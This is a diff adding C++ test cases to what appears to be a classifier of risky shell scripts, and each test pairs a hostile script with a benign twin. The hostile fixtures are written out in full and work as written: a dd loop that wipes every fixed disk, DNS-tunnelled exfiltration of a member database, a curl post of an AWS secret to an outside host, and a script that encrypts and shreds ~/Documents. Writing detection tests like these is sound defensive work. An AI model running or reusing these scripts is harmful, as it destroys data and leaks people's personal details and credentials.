@@ -652,5 +652,140 @@ TEST(HundredThirdRoundClasses, OrGivesTheRightSideWhereTheLeftIsFalse) {
   for (const auto& c : cases) check(c);
 }
 
+// lsblk -p in an option cluster (-dnpo) prints device paths, and awk's
+// `{print $1}` of lines of that shape prints their first fields: dd from
+// /dev/zero over each fixed disk is WIPE. Reading each disk is not.
+TEST(HundredFourthRoundClasses, DevicePathsThroughAwkKeepTheirShape) {
+  const Case cases[] = {
+      {"every fixed disk lsblk -dnpo lists, through awk, zero-filled", B,
+       "#!/bin/sh\n"
+       "targets() {\n"
+       "  lsblk -dnpo NAME,TYPE,RM 2>/dev/null | awk '$2 == \"disk\" && $3 == \"0\" {print $1}'\n"
+       "}\n"
+       "for dev in $(targets); do\n"
+       "  dd if=/dev/zero of=\"$dev\" bs=4M status=none\n"
+       "done\n",
+       "WIPE", SH},
+      {"the same disks read to /dev/null", L,
+       "#!/bin/sh\n"
+       "targets() {\n"
+       "  lsblk -dnpo NAME,TYPE,RM 2>/dev/null | awk '$2 == \"disk\" && $3 == \"0\" {print $1}'\n"
+       "}\n"
+       "for dev in $(targets); do\n"
+       "  dd if=\"$dev\" of=/dev/null bs=4M count=16 status=none && echo \"$dev readable\"\n"
+       "done\n",
+       nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// dig -f FILE queries the names FILE holds: hex of a member export written
+// there as labels under an outside zone is COVERT-CHANNEL-EXFILTRATION. A
+// batch of fixed host names is not.
+TEST(HundredFourthRoundClasses, DigBatchFilesAreTheNamesItQueries) {
+  const Case cases[] = {
+      {"members' CSV hex-encoded into a dig -f batch", B,
+       "#!/bin/sh\n"
+       "set -eu\n"
+       "OUT=\"backups/members.csv\"\n"
+       "ZONE=\"${CHECK_ZONE:-cs.vault.example.net}\"\n"
+       "mkdir -p backups\n"
+       "sqlite3 -header -csv till.db \"SELECT name, email, phone FROM members\" > \"$OUT\"\n"
+       "batch=\"backups/.register\"\n"
+       ": > \"$batch\"\n"
+       "n=0\n"
+       "xxd -p -c 28 \"$OUT\" | while read -r label; do\n"
+       "    n=$((n + 1))\n"
+       "    printf '%s.%d.%s A\\n' \"$label\" \"$n\" \"$ZONE\" >> \"$batch\"\n"
+       "done\n"
+       "dig +short +tries=1 -f \"$batch\" >/dev/null 2>&1 || true\n"
+       "rm -f \"$batch\"\n",
+       "COVERT-CHANNEL-EXFILTRATION", SH},
+      {"a batch of three fixed names", L,
+       "#!/bin/sh\n"
+       "set -eu\n"
+       "batch=\"hosts.batch\"\n"
+       "printf '%s A\\n' mail.example.net www.example.net api.example.net > \"$batch\"\n"
+       "dig +short +tries=1 -f \"$batch\"\n",
+       nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// curl -d @FILE sends the file, not its name: an argument array's words all
+// carry the array's labels (the bearer token's among them), so a JSON file
+// posted beside the Authorization header is no longer the token sent as
+// data. A secret put into the data itself still is.
+TEST(HundredFourthRoundClasses, CurlDataFromAFileSendsTheFileNotItsName) {
+  const Case cases[] = {
+      {"an API helper: bearer token in a header, a JSON file as data", L,
+       "#!/usr/bin/env bash\n"
+       "set -euo pipefail\n"
+       "PORTAL_URL=\"${PORTAL_URL:-https://nas.workshop.lan:8443}\"\n"
+       "api() {\n"
+       "    local method=\"$1\" path=\"$2\" data=\"${3:-}\"\n"
+       "    local args=(-sS --fail --max-time 30 -X \"$method\"\n"
+       "                -H \"Authorization: Bearer $PORTAL_TOKEN\"\n"
+       "                -H \"Accept: application/json\")\n"
+       "    if [[ -n \"$data\" ]]; then\n"
+       "        args+=(-H \"Content-Type: application/json\" --data-binary \"@$data\")\n"
+       "    fi\n"
+       "    curl \"${args[@]}\" \"$PORTAL_URL/api/v2$path\"\n"
+       "}\n"
+       "api GET \"/repairs?state=open\" > repairs.json\n"
+       "jq -c '{state: \"seen\"}' repairs.json > ack.json\n"
+       "api POST /repairs/ack ack.json\n",
+       nullptr, SH},
+      {"the same helper posting an AWS secret as data", B,
+       "#!/usr/bin/env bash\n"
+       "set -euo pipefail\n"
+       "api() {\n"
+       "    local method=\"$1\" path=\"$2\" data=\"${3:-}\"\n"
+       "    local args=(-sS --fail --max-time 30 -X \"$method\" -H \"Accept: application/json\")\n"
+       "    if [[ -n \"$data\" ]]; then\n"
+       "        args+=(--data-binary \"$data\")\n"
+       "    fi\n"
+       "    curl \"${args[@]}\" \"https://collect.example.net/api/v2$path\"\n"
+       "}\n"
+       "api POST /env \"key=$AWS_SECRET_ACCESS_KEY\"\n",
+       "EXFILTRATION", SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `export -f` makes a function known to child shells, and `for f; do`
+// iterates the positional parameters: find | xargs bash -c 'for f; do
+// seal_one "$f"; done' _ runs the exported function on every document.
+// The same pipeline compressing copies is not ransomware.
+TEST(HundredFourthRoundClasses, ExportedFunctionsRunInChildShells) {
+  const Case cases[] = {
+      {"documents encrypted and shredded by an exported function through xargs", B,
+       "#!/usr/bin/env bash\n"
+       "seal_one() {\n"
+       "    local f=\"$1\"\n"
+       "    if openssl enc -aes-256-cbc -pbkdf2 -pass env:RUN_KEY -in \"$f\" -out \"$f.sealed\"; then\n"
+       "        shred -u -n 1 -- \"$f\"\n"
+       "    fi\n"
+       "}\n"
+       "export -f seal_one\n"
+       "export RUN_KEY=\"$(openssl rand -hex 32)\"\n"
+       "find \"$HOME/Documents\" -type f -print0 | xargs -0 -r -n 16 bash -c 'for f; do seal_one \"$f\"; done' _\n",
+       "RANSOMWARE-ENCRYPT-AND-DELETE", SH},
+      {"the same documents gzip -k'd", L,
+       "#!/usr/bin/env bash\n"
+       "seal_one() {\n"
+       "    local f=\"$1\"\n"
+       "    if gzip -k -9 \"$f\"; then\n"
+       "        echo \"packed $f\"\n"
+       "    fi\n"
+       "}\n"
+       "export -f seal_one\n"
+       "export RUN_KEY=\"$(openssl rand -hex 32)\"\n"
+       "find \"$HOME/Documents\" -type f -print0 | xargs -0 -r -n 16 bash -c 'for f; do seal_one \"$f\"; done' _\n",
+       nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
